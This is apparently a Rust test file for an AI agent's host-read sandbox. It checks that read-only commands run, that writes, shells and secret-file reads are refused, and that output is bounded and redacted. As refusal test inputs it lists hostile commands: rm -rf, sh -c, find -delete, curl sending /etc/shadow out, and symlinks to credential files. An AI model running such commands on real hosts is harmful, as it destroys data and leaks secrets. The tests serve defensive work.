//! The agent's host reads on this machine, for real: read-only commands run (and nothing else
//! does, asserted on the filesystem), the timeout and the output bound hold, output is
//! redacted, and secret files are refused however they are reached.

use std::path::PathBuf;
use std::time::{Duration, Instant};

use pulse_agent::host_files::HostFiles;
use pulse_agent::read_exec::{DISABLED_REASON, ReadExec, run_pipeline};
use pulse_agent::reads::ReadRefused;
use pulse_capabilities::exec_intent::classify;
use pulse_domain::agent_protocol::ReadOutput;

const TIMEOUT_MS: u32 = 10_000;
const MAX_BYTES: u32 = 64 * 1024;

/// A fresh scratch directory, removed on drop.
struct Scratch(PathBuf);

impl Scratch {
    fn new(label: &str) -> Self {
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos())
            .unwrap_or_default();
        let dir = std::env::temp_dir().join(format!(
            "pulse-host-reads-{label}-{}-{nanos}",
            std::process::id()
        ));
        std::fs::create_dir_all(&dir).expect("scratch dir");
        Self(dir)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.join(name)
    }

    fn text(&self, name: &str) -> String {
        self.path(name).display().to_string()
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn allowed() -> ReadExec {
    ReadExec {
        allowed: true,
        own_secrets: Vec::new(),
    }
}

fn argv(words: &[&str]) -> Vec<String> {
    words.iter().map(|w| (*w).to_owned()).collect()
}

/// The stages of an admitted command text.
fn stages(command: &str) -> Vec<Vec<String>> {
    classify(command)
        .unwrap_or_else(|refusal| panic!("{command}: {refusal}"))
        .stages
}

struct Ran {
    exit_status: Option<i32>,
    stdout: String,
    stderr: String,
    truncated: bool,
    timed_out: bool,
    duration_ms: u64,
}

fn ran(output: Result<ReadOutput, ReadRefused>) -> Ran {
    match output {
        Ok(ReadOutput::Exec {
            exit_status,
            stdout,
            stderr,
            truncated,
            timed_out,
            duration_ms,
        }) => Ran {
            exit_status,
            stdout,
            stderr,
            truncated,
            timed_out,
            duration_ms,
        },
        other => panic!("not a finished exec: {other:?}"),
    }
}

fn refusal(output: Result<ReadOutput, ReadRefused>) -> ReadRefused {
    match output {
        Err(refused) => refused,
        Ok(output) => panic!("expected a refusal, got {output:?}"),
    }
}

/// Processes whose command line mentions `needle`.
fn processes_mentioning(needle: &str) -> Vec<String> {
    let Ok(entries) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    entries
        .flatten()
        .filter(|e| {
            e.file_name()
                .to_string_lossy()
                .bytes()
                .all(|b| b.is_ascii_digit())
        })
        .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
        .map(|raw| String::from_utf8_lossy(&raw).replace('\0', " "))
        .filter(|cmdline| cmdline.contains(needle))
        .collect()
}

#[tokio::test]
async fn without_the_flag_every_exec_is_refused_and_nothing_runs() {
    let scratch = Scratch::new("off");
    let exec = ReadExec {
        allowed: false,
        own_secrets: Vec::new(),
    };
    let marker = scratch.path("ran");
    for stages in [
        stages("df -h"),
        vec![argv(&["touch", &marker.display().to_string()])],
    ] {
        let refused = refusal(exec.run(&stages, TIMEOUT_MS, MAX_BYTES).await);
        assert_eq!(refused.code.as_deref(), Some("read_exec_disabled"));
        assert_eq!(refused.reason, DISABLED_REASON);
        assert!(refused.reason.contains("--allow-read-exec"));
    }
    assert!(!marker.exists());
}

#[tokio::test]
async fn read_only_commands_run_directly_without_a_shell() {
    let df = ran(allowed().run(&stages("df -h"), TIMEOUT_MS, MAX_BYTES).await);
    assert_eq!(df.exit_status, Some(0), "{}", df.stderr);
    assert!(df.stdout.contains("Filesystem"), "{}", df.stdout);
    assert!(!df.truncated && !df.timed_out);

    let ls = ran(allowed().run(&stages("ls /"), TIMEOUT_MS, MAX_BYTES).await);
    assert_eq!(ls.exit_status, Some(0));
    assert!(ls.stdout.lines().any(|l| l == "etc"), "{}", ls.stdout);

    // A pipeline: ls's stdout is head's stdin.
    let head = ran(allowed()
        .run(&stages("ls / | head -n 2"), TIMEOUT_MS, MAX_BYTES)
        .await);
    assert_eq!(head.stdout.lines().count(), 2, "{}", head.stdout);

    // No shell: `$(...)` reaches echo as text and runs nothing.
    let scratch = Scratch::new("echo");
    let marker = scratch.text("x");
    let echoed = ran(allowed()
        .run(
            &[argv(&["echo", &format!("$(touch {marker})")])],
            TIMEOUT_MS,
            MAX_BYTES,
        )
        .await);
    assert_eq!(echoed.stdout.trim_end(), format!("$(touch {marker})"));
    assert!(!scratch.path("x").exists());

    // A failing command reports its status and stderr.
    let missing = ran(allowed()
        .run(&stages("ls /no-such-dir-here"), TIMEOUT_MS, MAX_BYTES)
        .await);
    assert_ne!(missing.exit_status, Some(0));
    assert!(
        missing.stderr.contains("No such file"),
        "{}",
        missing.stderr
    );
}

#[tokio::test]
async fn writes_and_shells_are_refused_on_the_agent_and_nothing_changes() {
    let scratch = Scratch::new("writes");
    let victim = scratch.path("x");
    std::fs::write(&victim, "keep me").unwrap();
    let created = scratch.path("created");
    // What a compromised relay could send: argv the classifier never admitted.
    for (stages, code) in [
        (
            vec![argv(&["rm", "-rf", &victim.display().to_string()])],
            "exec_write_command",
        ),
        (
            vec![argv(&["sh", "-c", &format!("touch {}", created.display())])],
            "exec_interpreter",
        ),
        (
            vec![argv(&["find", &scratch.0.display().to_string(), "-delete"])],
            "exec_write_argument",
        ),
        (
            vec![
                argv(&["ls", "/"]),
                argv(&["xargs", "touch", &created.display().to_string()]),
            ],
            "exec_write_command",
        ),
        (
            vec![argv(&[
                "timeout",
                "5",
                "tee",
                &created.display().to_string(),
            ])],
            "exec_write_command",
        ),
        // Admitted programs with a write in their arguments.
        (vec![argv(&["hostname", "x"])], "exec_write_argument"),
        (
            vec![argv(&["date", "-s", "2020-01-01"])],
            "exec_write_argument",
        ),
        (
            vec![argv(&[
                "sort",
                &format!("-o{}", created.display()),
                &victim.display().to_string(),
            ])],
            "exec_write_argument",
        ),
        (
            vec![argv(&["curl", "-H", "@/etc/shadow", "http://example.com"])],
            "exec_write_argument",
        ),
        (vec![argv(&["ps", "auxe"])], "exec_write_argument"),
    ] {
        let refused = refusal(allowed().run(&stages, TIMEOUT_MS, MAX_BYTES).await);
        assert_eq!(
            refused.code.as_deref(),
            Some(code),
            "{stages:?}: {refused:?}"
        );
    }
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
    assert!(!created.exists());
    // As text, the classifier refuses the substitution before any argv exists.
    assert!(classify(&format!("echo $(touch {})", created.display())).is_err());
}

#[tokio::test]
async fn commands_see_only_path_and_lang_so_no_proxy_setting_reaches_them() {
    // The test process has plenty of variables (CARGO_*, HOME, ...); a command the agent runs
    // sees none of them, so no http_proxy, HTTPS_PROXY or ALL_PROXY the operator did not
    // configure on the host can steer curl or wget. `env` itself is never admitted: the
    // pipeline runner is called directly to look.
    assert!(std::env::vars().count() > 2);
    let out = ran(run_pipeline(&[argv(&["env"])], Duration::from_secs(5), 4096).await);
    let mut names: Vec<&str> = out
        .stdout
        .lines()
        .filter_map(|line| line.split_once('=').map(|(name, _)| name))
        .collect();
    names.sort_unstable();
    assert_eq!(names, ["LANG", "PATH"], "{}", out.stdout);
    assert!(out.stdout.contains("LANG=C\n"), "{}", out.stdout);
}

#[tokio::test]
async fn the_timeout_kills_the_whole_pipeline() {
    let scratch = Scratch::new("timeout");
    let fifo = scratch.path("never-written");
    nix::unistd::mkfifo(
        &fifo,
        nix::sys::stat::Mode::S_IRUSR | nix::sys::stat::Mode::S_IWUSR,
    )
    .unwrap();
    let fifo_text = fifo.display().to_string();
    // `cat` blocks opening a FIFO nobody writes; grep waits on cat.
    let command = format!("timeout 60 cat {fifo_text} | grep anything");
    let started = Instant::now();
    let out = ran(allowed().run(&stages(&command), 700, MAX_BYTES).await);
    let took = started.elapsed();
    assert!(out.timed_out, "not timed out");
    assert_eq!(out.exit_status, None);
    assert!(out.duration_ms >= 700, "{}", out.duration_ms);
    assert!(took < Duration::from_secs(5), "took {took:?}");
    // Every stage (and timeout's own child) is gone.
    assert_eq!(processes_mentioning(&fifo_text), Vec::<String>::new());
}

#[tokio::test]
async fn output_is_cut_at_the_byte_bound_and_redacted() {
    let out = ran(allowed()
        .run(&stages("seq 1 1000000"), TIMEOUT_MS, 1000)
        .await);
    assert!(out.truncated);
    assert!(out.stdout.len() <= 1000, "{}", out.stdout.len());
    assert!(out.stdout.starts_with("1\n2\n3\n"));

    let scratch = Scratch::new("redact");
    std::fs::write(
        scratch.path("app.conf"),
        "listen=8080\nDB_PASSWORD=hunter2\nAuthorization: Bearer abcdefghijklmnop\n",
    )
    .unwrap();
    let cat = ran(allowed()
        .run(
            &[argv(&["cat", &scratch.text("app.conf")])],
            TIMEOUT_MS,
            MAX_BYTES,
        )
        .await);
    assert!(cat.stdout.contains("listen=8080"), "{}", cat.stdout);
    assert!(
        !cat.stdout.contains("hunter2") && !cat.stdout.contains("abcdefghijklmnop"),
        "{}",
        cat.stdout
    );
    let files = HostFiles::default();
    let Ok(ReadOutput::File { text, .. }) = files.file(&scratch.text("app.conf"), 4096).await
    else {
        panic!("file not read");
    };
    assert!(
        text.contains("listen=8080") && !text.contains("hunter2"),
        "{text}"
    );
}

#[tokio::test]
async fn secret_files_are_refused_however_they_are_reached() {
    let scratch = Scratch::new("secrets");
    let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n-----END OPENSSH PRIVATE KEY-----\n";
    std::fs::write(scratch.path("server.pem"), key).unwrap();
    std::fs::write(scratch.path("id_ed25519"), key).unwrap();
    std::fs::write(scratch.path(".env"), "API_TOKEN=abc\n").unwrap();
    std::fs::write(scratch.path("notes.txt"), "ordinary\n").unwrap();
    std::fs::create_dir_all(scratch.path("sub")).unwrap();
    std::os::unix::fs::symlink(scratch.path(".env"), scratch.path("innocent.txt")).unwrap();
    std::os::unix::fs::symlink("/etc/shadow", scratch.path("shadow-link")).unwrap();
    std::os::unix::fs::symlink(scratch.path("server.pem"), scratch.path("cert.txt")).unwrap();
    let token = scratch.path("token");
    std::fs::write(&token, "pulse_secret").unwrap();
    let files = HostFiles {
        own_secrets: vec![token.clone()],
    };

    let refused_paths = [
        "/etc/shadow".to_owned(),
        "/etc/gshadow".to_owned(),
        scratch.text("server.pem"),
        scratch.text("id_ed25519"),
        scratch.text(".env"),
        scratch.text("innocent.txt"),
        scratch.text("shadow-link"),
        scratch.text("cert.txt"),
        scratch.text("sub/../.env"),
        token.display().to_string(),
    ];
    for path in &refused_paths {
        for output in [
            files.file(path, 4096).await,
            files.tail(path, 10, 4096).await,
        ] {
            let refused = refusal(output);
            assert_eq!(
                refused.code.as_deref(),
                Some("read_secret_path"),
                "{path}: {refused:?}"
            );
        }
        // The same paths through exec; a private key under an ordinary name is caught by
        // the redaction of the output instead (below).
        if path.ends_with("server.pem") || path.ends_with("cert.txt") {
            continue;
        }
        let refused = refusal(
            ReadExec {
                allowed: true,
                own_secrets: vec![token.clone()],
            }
            .run(&[argv(&["cat", path])], TIMEOUT_MS, MAX_BYTES)
            .await,
        );
        assert_eq!(
            refused.code.as_deref(),
            Some("read_secret_path"),
            "cat {path}"
        );
    }
    // Nor does exec print a key it can reach under an ordinary name.
    let cat = ran(allowed()
        .run(
            &[argv(&["cat", &scratch.text("cert.txt")])],
            TIMEOUT_MS,
            MAX_BYTES,
        )
        .await);
    assert!(
        !cat.stdout.contains("b3BlbnNzaC1rZXktdjEAAAAABG5vbmU"),
        "{}",
        cat.stdout
    );

    // Ordinary files are read; a directory is found, not read.
    let Ok(ReadOutput::File { text, .. }) = files.file(&scratch.text("notes.txt"), 4096).await
    else {
        panic!("notes not read");
    };
    assert_eq!(text, "ordinary\n");
    let refused = refusal(files.file(&scratch.text("sub"), 4096).await);
    assert_eq!(refused.code.as_deref(), Some("read_invalid"));
    assert!(refused.reason.contains("find"), "{}", refused.reason);
    let refused = refusal(files.file("relative/path", 4096).await);
    assert_eq!(refused.code.as_deref(), Some("read_invalid"));
}

#[tokio::test]
async fn tail_and_find_read_within_their_bounds() {
    let scratch = Scratch::new("tailfind");
    let log: String = (1..=100).map(|n| format!("line {n}\n")).collect();
    std::fs::write(scratch.path("app.log"), log).unwrap();
    std::fs::create_dir_all(scratch.path("a/b/c")).unwrap();
    std::fs::write(scratch.path("a/one.log"), "1").unwrap();
    std::fs::write(scratch.path("a/b/two.log"), "22").unwrap();
    std::fs::write(scratch.path("a/b/c/three.log"), "333").unwrap();
    std::fs::write(scratch.path("a/b/other.txt"), "x").unwrap();
    let files = HostFiles::default();

    let Ok(ReadOutput::Tail {
        lines, truncated, ..
    }) = files.tail(&scratch.text("app.log"), 3, 4096).await
    else {
        panic!("no tail");
    };
    assert_eq!(lines, ["line 98", "line 99", "line 100"]);
    assert!(truncated);

    let Ok(ReadOutput::Find {
        entries, truncated, ..
    }) = files.find(&scratch.text("a"), Some("*.log"), 100, 16).await
    else {
        panic!("no find");
    };
    let found: Vec<(String, u64)> = entries
        .iter()
        .map(|e| {
            (
                e.path.rsplit('/').next().unwrap_or_default().to_owned(),
                e.size,
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            ("one.log".to_owned(), 1),
            ("two.log".to_owned(), 2),
            ("three.log".to_owned(), 3)
        ]
    );
    assert!(!truncated);
    // Depth and entry bounds cut the walk and say so.
    let Ok(ReadOutput::Find {
        entries, truncated, ..
    }) = files.find(&scratch.text("a"), Some("*.log"), 100, 2).await
    else {
        panic!("no find");
    };
    assert_eq!(entries.len(), 2);
    assert!(truncated);
    let Ok(ReadOutput::Find {
        entries, truncated, ..
    }) = files.find(&scratch.text("a"), None, 2, 16).await
    else {
        panic!("no find");
    };
    assert_eq!(entries.len(), 2);
    assert!(truncated);
    assert_eq!(
        refusal(files.find(&scratch.text("a"), None, 0, 16).await)
            .code
            .as_deref(),
        Some("read_invalid")
    );
}
